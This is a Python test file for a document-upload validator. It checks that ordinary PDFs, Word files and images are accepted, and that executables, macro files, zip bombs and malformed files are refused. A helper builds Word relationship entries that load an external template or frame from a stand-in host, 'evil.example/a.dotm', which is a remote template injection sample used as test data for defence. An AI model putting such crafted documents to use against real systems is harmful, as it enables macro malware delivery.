"""Which papers are taken as evidence."""

from __future__ import annotations

import hashlib
import io
import zipfile

import pytest

from jiqun.cases.evidence import LARGEST, examine
from jiqun.problems import ProblemsError


def packed(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def _link(kind: str, coding: str = "utf-8") -> bytes:
    space = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    said = (
        f'<r:Relationship Id="a" Type="{space}/{kind}" Target="https://evil.example/a.dotm" TargetMode=\'External\'/>'
    )
    return said.encode(coding)


WORD = {"word__document.xml": b"<w/>", "[Content_Types].xml": b"<Types/>"}


def test_papers_of_the_usual_kinds_are_taken_and_hashed() -> None:
    assert examine("完税证明.pdf", b"%PDF-1.7").sha256 == hashlib.sha256(b"%PDF-1.7").hexdigest()
    assert examine("说明.docx", packed(**WORD)).size > 0
    linked = {"word___rels__document.xml.rels": _link("hyperlink")}  # a link that the reader has to follow
    assert examine("说明.docx", packed(**WORD, **linked)).size > 0
    assert examine("照片.PNG", b"\x89PNG\r\n\x1a\n....").name == "照片.PNG"


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("程序.exe", b"MZ", "CASE-002"),
        ("宏.xlsm", packed(), "CASE-002"),
        ("页面.html", b"<script>", "CASE-002"),
        ("空.pdf", b"", "CASE-003"),
        ("大.pdf", b"%PDF-" + bytes(LARGEST), "CASE-003"),
        ("假.pdf", b"<html>", "CASE-004"),
        ("坏.docx", b"PK\x03\x04 broken", "CASE-004"),
        ("表.xlsx", packed(**WORD), "CASE-004"),
        ("炸弹.docx", packed(**WORD, big=bytes(101 * 2**20)), "CASE-005"),
        ("宏.docx", packed(**WORD, **{"word__vbaProject.bin": b"x"}), "CASE-006"),
        ("模板.docx", packed(**WORD, **{"word___rels__settings.xml.rels": _link("attachedTemplate")}), "CASE-006"),
        ("框.docx", packed(**WORD, **{"word___rels__document.xml.rels": _link("frame", "utf-16")}), "CASE-006"),
        ("宏二.docx", packed(**{**WORD, "[Content_Types].xml": b"x.macroEnabled.main+xml"}), "CASE-006"),
    ],
)
def test_what_is_no_plain_paper_is_refused(name: str, content: bytes, code: str) -> None:
    with pytest.raises(ProblemsError) as told:
        examine(name, content)
    assert told.value.problems[0].code == code
